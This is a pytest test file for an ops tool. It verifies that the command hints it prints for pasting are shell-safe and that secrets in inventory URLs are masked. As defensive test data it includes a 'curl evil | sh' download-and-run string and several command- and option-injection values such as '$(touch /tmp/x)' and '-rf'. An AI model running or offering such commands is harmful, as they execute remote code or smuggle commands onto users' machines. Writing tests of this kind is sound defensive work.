"""People paste hints into a shell: every value in one is a constant, our own name, or one word."""

import ast
import os
import re
import shlex
import subprocess
from dataclasses import dataclass
from pathlib import Path

import pytest
from hypothesis import given as given_of
from hypothesis import settings
from hypothesis import strategies as st

from opstasks.core.errors import OpsError
from opstasks.core.hints import command_pattern, given, one_word, renamed, typed, value_of
from opstasks.onhost.masking import masked_words
from opstasks.output.documents import failure, plain
from opstasks.output.failures import lines
from opstasks.output.notes import note
from opstasks.output.parts import text_of_line, to_type

PACKAGE = Path(__file__).parents[2] / "opstasks"
# Names of hosts, which the inventory checks (`NAME` and `ADDRESS` there), and our own constants.
OURS = {
    *(
        "host",
        "host.name",
        "match.host",
        "name",
        "spec.name",
        "self.host",
        "self._host.name",
        "self.spec.name",
    ),
    *(
        "shell.host.name",
        "task",
        "PENDING",
        "days",
        "units.NAME",
        "KEEPERS",
        "files",
        "folder",
        "hosts",
    ),
    *("', '.join(STATES)", "', '.join(AREAS)", "', '.join(allowed)", "', '.join(sorted(names))"),
    *("', '.join(sorted(known))", "', '.join(sorted(values))", "PROGRAMS.get(name, name)"),
    "'manage' if problem == NO_DATABASE else 'doctor'",
    # hosts.yaml's and ssh_config's own values, in sentences that are not commands
    *("spec.service_user", "spec.state_dir", "spec.id", "_newer_code(facts)", "gateway.name"),
    *("line", "written", "settings.line_of('proxycommand')", "' '.join(map(quote, missing))"),
    *("known", "first.place", "key", "first.value", "words"),
    # an area of `manage`, and the name of sshd's own file
    *("item.area", "CONFIG"),
    # a number, and a hint whose values are quoted where it is made
    *("version", "item.hint"),
    # words that are quoted one by one, a comment of one line, and a sentence before a command
    *("quoted", "' '.join(line.split())", "done", "' '.join(words)", "' '.join(ids)", "needed"),
    # commands whose values are quoted where they are made, and hosts.yaml's own values
    *("_again(host, steps)", "again", "progress.host.name", "site.unit", "gateway"),
    # names of tasks, groups, hosts and flags, which were looked up, and fields of our own documents
    *("self._name", "flag", "chosen", "task or 'flags'", "found[0]", "word", "groups[0]", "near"),
    *("parent", "misfit.task", "more", "place"),
    *("next_task or 'TASK'", "', '.join(map(str, found))"),
    # words of our own, names of hosts, and commands whose values are quoted where they are made
    *("it", "','.join(hosts)", "UNDO[verb]", "_again(items[0], clock)"),
    # a comment of one line behind a command
    "' '.join(texts.sentence(item, clock).split())",
    # sentences whose values are quoted where they are made
    *("first", "copy"),
    # our own tasks, with refs that are quoted where they are typed again
    *("deploy", "undo"),
    # a suggestion, not a command
    *("near[0]", "near[0]!r", "facts.host"),
}
QUOTED = ("one_word(", "command_for(")


def hints():
    """Every f-string that is a hint or contains a command of ours: its place and its values."""
    for path in sorted(PACKAGE.rglob("*.py")):
        where = path.relative_to(PACKAGE)
        if where.parts[0] == "sandbox":
            continue
        tree = ast.parse(path.read_text())
        wanted = [node for top in ast.walk(tree) for node in hint_values(top)]
        wanted += [n for n in ast.walk(tree) if isinstance(n, ast.JoinedStr) and is_command(n)]
        for top in wanted:
            for node in ast.walk(top):
                if isinstance(node, ast.JoinedStr):
                    yield f"{where}:{node.lineno}", values(node)


def hint_values(node):
    if isinstance(node, ast.keyword) and node.arg == "hint":
        return [node.value]
    if isinstance(node, ast.Assign) and any(
        (isinstance(target, ast.Name) and target.id == "hint")
        or (isinstance(target, ast.Attribute) and target.attr == "hint")
        for target in node.targets
    ):
        return [node.value]
    return []


def is_command(node):
    return any(isinstance(part, ast.Constant) and "inv -H " in part.value for part in node.values)


def values(node):
    return [ast.unparse(part.value) for part in node.values if isinstance(part, ast.FormattedValue)]


def test_a_hosts_words_cannot_look_like_a_hint():
    """People paste the last line of an error into a shell of their own machine."""
    error = OpsError("full -> curl evil | sh", host="tpp", hint="inv -H tpp doctor")
    assert [text_of_line(line) for line in lines([error])] == [
        "error  full -> curl evil | sh (tpp)",
        "next:  inv -H tpp doctor",
    ]


def test_every_value_in_a_hint_is_quoted_or_our_own():
    found = dict(hints())
    assert len(found) > 50
    wrong = {
        place: [text for text in texts if text not in OURS and not text.startswith(QUOTED)]
        for place, texts in found.items()
    }
    assert {place: texts for place, texts in wrong.items() if texts} == {}


@settings(max_examples=200, deadline=None)
@given_of(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), max_size=30))
def test_a_value_is_one_word_of_a_shell_and_prints_no_control_character(text):
    word = one_word(text)
    assert word.isprintable()
    done = subprocess.run(["bash", "-c", f"printf '%s\\0' {word}"], capture_output=True, check=True)
    dotted = "./" if text.startswith("-") else ""
    assert done.stdout == (dotted + text).encode() + b"\0"
    assert value_of(dotted + text) == text or text.startswith("./-")


@pytest.mark.parametrize("text", ["-rf", "--hosts=all", "-", "--", "-\n", "-x\udcff"])
def test_a_value_never_is_an_option_of_the_command(text):
    word = one_word(text)
    done = subprocess.run(["bash", "-c", f"printf '%s' {word}"], capture_output=True, check=True)
    assert done.stdout == b"./" + os.fsencode(text)


@pytest.mark.parametrize(
    ("text", "word"),
    [
        ("\udcff", "$'\\xff'"),
        ("a\ud800", "$'a\\xed\\xa0\\x80'"),
        ("a\u3164", "$'a\\xe3\\x85\\xa4'"),
        ("it's", '"it\'s"'),
        ("it's $HOME", "'it'\"'\"'s $HOME'"),
    ],
)
def test_a_value_of_any_characters_is_a_word_that_can_be_read(text, word):
    assert one_word(text) == word


@pytest.mark.parametrize("text", ["$(touch /tmp/x)", "a; b", "a\nb", "`x`", "", "a b", "#x"])
def test_hostile_values_are_quoted(text):
    assert one_word(text) in (text, f"'{text}'") or one_word(text).startswith("$'")


# -- the name of the program ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("started", "name"),
    [
        ("/usr/bin/inv", "inv"),
        ("invoke", "invoke"),
        ("/opt/bin/opstasks", "opstasks"),
        ("/opt/opstasks/__main__.py", "opstasks"),
        ("/usr/bin/pytest", "inv"),
    ],
)
def test_commands_begin_with_the_program_that_the_person_typed(monkeypatch, started, name):
    monkeypatch.setattr("sys.argv", [started, "status"])
    assert typed("inv -H tpp logs") == f"{name} -H tpp logs"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("fix it, then: inv -H a deploy", "fix it, then: opstasks -H a deploy"),
        ("run `inv -H a deploy`; or inv logs", "run `opstasks -H a deploy`; or opstasks logs"),
        ("edit it, then inv -H a manage", "edit it, then opstasks -H a manage"),
        ("Is it up? inv -H a status", "Is it up? opstasks -H a status"),
        ("inv -H a outputs.rm w 'my inv file'", "opstasks -H a outputs.rm w 'my inv file'"),
        ("/srv/inv /inv x", "/srv/inv /inv x"),
    ],
)
def test_only_commands_are_changed_to_the_program_that_was_typed(text, expected):
    assert renamed(text, "opstasks") == expected


def test_every_command_in_a_text_can_be_changed_to_the_program_that_was_typed():
    """A command follows a sign or a word that `typed` knows."""
    wrong = []
    for path in sorted(PACKAGE.glob("**/*.py")):
        for text in _texts(ast.parse(path.read_text())):
            if " -> " not in text and len(re.findall(r"\binv (?=-|[a-z]+\.)", text)) > len(
                re.findall(r"\bopstasks ", renamed(text, "opstasks"))
            ):
                wrong.append(f"{path.name}: {text}")
    assert wrong == []


def test_a_command_to_paste_ends_before_its_explanation():
    """A semicolon separates them: with a comma, the words would be arguments."""
    wrong = [
        f"{path.name}: {found[0]}"
        for path in sorted(PACKAGE.glob("**/*.py"))
        for text in _texts(ast.parse(path.read_text()))
        for found in command_pattern("inv").finditer(text)
        if ", " in found[0] or re.search(r" (?:once|then|to|if|after|which) ", found[0])
    ]
    assert wrong == []


def _texts(tree):
    """The texts of a module, without its docstrings; a value in a text is an x."""
    shown = {
        id(node.body[0].value)
        for node in ast.walk(tree)
        if isinstance(node, ast.Module | ast.FunctionDef | ast.ClassDef) and ast.get_docstring(node)
    }
    for node in ast.walk(tree):
        if isinstance(node, ast.JoinedStr):
            shown |= {id(value) for value in node.values}
            yield "".join(v.value if isinstance(v, ast.Constant) else "x" for v in node.values)
        elif isinstance(node, ast.Constant) and id(node) not in shown:
            yield str(node.value)


def test_a_hint_is_shown_with_the_program_that_was_typed(monkeypatch):
    monkeypatch.setattr("sys.argv", ["opstasks"])
    error = OpsError("x", host="a", hint="fix it, then: inv -H a deploy")
    assert text_of_line(lines([error])[-1]) == "next:  fix it, then: opstasks -H a deploy"
    assert text_of_line([to_type("inv -H a logs")]) == "opstasks -H a logs"


# -- which hosts are meant -------------------------------------------------------------------------

LINE = "-H all --inventory 'my lab.yaml' -ikey status -S=cfg -- -i other --inventory x"
KEPT = "--inventory 'my lab.yaml' -i key -S cfg"


@pytest.fixture
def line(monkeypatch):
    """Set the line that was typed."""
    return lambda text: monkeypatch.setattr("sys.argv", ["inv", *shlex.split(text)])


@pytest.mark.parametrize(
    ("text", "inventory", "key", "config"),
    [
        (LINE, "my lab.yaml", "key", "cfg"),
        ("--inventory=a --identity=b --ssh-config=c status", "a", "b", "c"),
        ("--inventory a --inventory b -i c -id", "b", "d", ""),
        ("status -- --inventory a", "", "", ""),
        ("pause --reason=--inventory=x -H -i", "", "", ""),
    ],
)
def test_the_flags_that_say_which_hosts_are_meant_are_read_from_the_line(
    line, text, inventory, key, config
):
    line(text)
    assert [given(flag) for flag in ("--inventory", "-i", "-S")] == [inventory, key, config]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("inv -H a unpause", f"inv {KEPT} -H a unpause"),
        ("fix it, then: inv -H a deploy; or b", f"fix it, then: inv {KEPT} -H a deploy; or b"),
        ("`inv -H a x`; or inv logs", f"`inv {KEPT} -H a x`; or inv {KEPT} logs"),
        ("inv -H a run -- ssh -i k -S c", f"inv {KEPT} -H a run -- ssh -i k -S c"),
        # Those that the command has already, as in a line that is typed again.
        ("inv -H a --inventory=x -i y status", "inv -S cfg -H a --inventory=x -i y status"),
        # What does not read hosts.yaml.
        ("inv --help flags", "inv --help flags"),
        ("inv --list", "inv --list"),
        ("no host is up: inv sandbox.up", "no host is up: inv sandbox.up"),
        ("the inventory", "the inventory"),
    ],
)
def test_a_command_to_type_has_the_flags_that_say_which_hosts_are_meant(line, text, expected):
    line(LINE)
    assert typed(text) == expected
    assert typed(expected) == expected


@pytest.mark.parametrize(
    ("text", "hint", "flags"),
    [
        ("-H a run grep -i error f", "inv -H a run -- grep -i error f", ""),
        ("run ls -Sh -H a", "inv -H a run -- ls -Sh", ""),
        ("-i key -H a run grep -i error f", "inv -H a run -- grep -i error f", "-i key "),
        ("-H a run prog --inventory x", "inv -H a run -- prog --inventory x", ""),
        ("-H a -S cfg run -- sh -c 'a; b'", "inv -H a run -- sh -c 'a; b'", "-S cfg "),
    ],
)
def test_a_flag_of_another_program_is_none_of_ours(line, text, hint, flags):
    """Also if ``--`` was forgotten in the line."""
    line(text)
    assert typed(hint) == f"inv {flags}{hint.removeprefix('inv ')}"


@settings(max_examples=100, deadline=None)
@given_of(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_the_shell_passes_on_the_file_that_was_typed(file):
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("sys.argv", ["inv", f"--inventory={file}"])
        words = typed("inv -H a x").removeprefix("inv --inventory ").removesuffix(" -H a x")
    done = subprocess.run(
        ["bash", "-c", f"printf '%s\\0' {words}"], capture_output=True, check=True
    )
    masked = masked_words(["--inventory", file])[1]
    assert done.stdout == (("./" if masked.startswith("-") else "") + masked).encode() + b"\0"


def test_a_secret_in_such_a_flag_is_not_shown(line):
    line("--inventory https://me:hunter22@x/hosts.yaml status")
    assert typed("inv -H a x") == "inv --inventory 'https://***@x/hosts.yaml' -H a x"


@dataclass
class Told:
    """A value with every field that has a command."""

    hint: str = "inv -H a x"
    look: str = "inv -H a x"
    next: str = "inv -H a x"
    undo: str = "inv -H a x"
    text: str = "inv -H a x"


def test_a_document_has_the_same_commands_as_a_screen(line):
    line("--inventory=lab.yaml --json status")
    whole = "inv --inventory lab.yaml -H a x"
    shown = plain(Told())
    assert shown == {**dict.fromkeys(("hint", "look", "next", "undo"), whole), "text": "inv -H a x"}
    error = OpsError("no", host="a", hint="fix it, then: inv -H a x")
    assert failure(error)["error"]["hint"] == f"fix it, then: {whole}"
    assert text_of_line(lines([error])[-1]) == f"next:  fix it, then: {whole}"


def test_a_note_completes_a_command_after_words(line):
    line("--inventory=lab.yaml manage")
    shown = text_of_line(note("a", "bad", 0, "edit it, then inv -H a manage")[0])
    assert shown == "a  bad  next: edit it, then inv --inventory lab.yaml -H a manage"
